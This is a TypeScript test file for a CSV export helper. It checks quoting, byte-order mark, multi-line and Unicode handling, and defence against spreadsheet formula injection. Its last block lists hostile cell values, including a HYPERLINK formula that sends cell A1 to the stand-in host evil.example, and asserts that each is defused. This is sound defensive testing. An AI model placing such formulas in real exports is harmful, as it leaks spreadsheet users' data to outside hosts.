import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { fileSlug, toCsv } from './csv.ts';

describe('toCsv', () => {
  it('writes a BOM, a header row and every field quoted; null is empty, never 0', () => {
    const csv = toCsv(
      ['keyword', 'volume', 'cpc'],
      [
        ['wanderschuhe größe 42', 1900, 1.35],
        ['zzqx', null, undefined],
      ],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = csv.slice(1).trimEnd().split('\r\n');
    expect(lines).toEqual([
      '"keyword","volume","cpc"',
      '"wanderschuhe größe 42","1900","1.35"',
      '"zzqx","",""',
    ]);
  });

  it('escapes quotes and commas so a CSV reader gets the text back; defuses formulas', () => {
    const csv = toCsv(['keyword', 'note'], [['boots, "waterproof"', '=HYPERLINK("x")']]);
    const parsed = Papa.parse<string[]>(csv.slice(1).trim()).data;
    expect(parsed[1]).toEqual(['boots, "waterproof"', `'=HYPERLINK("x")`]);
  });

  it('keeps newlines inside a quoted field, so a multi-line note stays one cell', () => {
    const csv = toCsv(['label', 'note'], [['Launch', 'line one\nline two\r\nline three']]);
    const parsed = Papa.parse<string[]>(csv.slice(1).trim()).data;
    expect(parsed).toEqual([
      ['label', 'note'],
      ['Launch', 'line one\nline two\r\nline three'],
    ]);
  });

  it('writes non-ASCII as UTF-8 text after the BOM (accents, CJK, emoji) and 0 and false as themselves', () => {
    const csv = toCsv(['keyword', 'pages', 'checked'], [['café 東京 🥾', 0, false]]);
    expect(csv).toBe('\uFEFF"keyword","pages","checked"\r\n"café 東京 🥾","0","false"\r\n');
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('fills short rows with empty fields', () => {
    expect(toCsv(['a', 'b'], [['x']]).slice(1)).toBe('"a","b"\r\n"x",""\r\n');
  });
});

describe('fileSlug', () => {
  it('keeps letters and digits', () => {
    expect(fileSlug('Hiking Boots (US)')).toBe('hiking-boots-us');
    expect(fileSlug('***')).toBe('export');
  });
});

describe('toCsv and spreadsheet formulas', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")\nline2',
    '=1\r\n=2',
    '+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0@SUM(1)',
    '\uFF1D1+1',
    '\0=1',
  ];
  const cells = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);

  it('writes every text cell that a spreadsheet would read as a formula behind a quote, line breaks and all', () => {
    const [row = []] = cells(toCsv(HOSTILE, [HOSTILE]));
    expect(row).toEqual(HOSTILE.map((v) => `'${v}`));
    for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it('leaves numbers as numbers (a negative figure is not a formula) and ordinary text as it is', () => {
    const [row = []] = cells(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, -0.25, 'hiking boots', 'a=b', 'x -1']]));
    expect(row).toEqual(['-5', '-0.25', 'hiking boots', 'a=b', 'x -1']);
  });
});
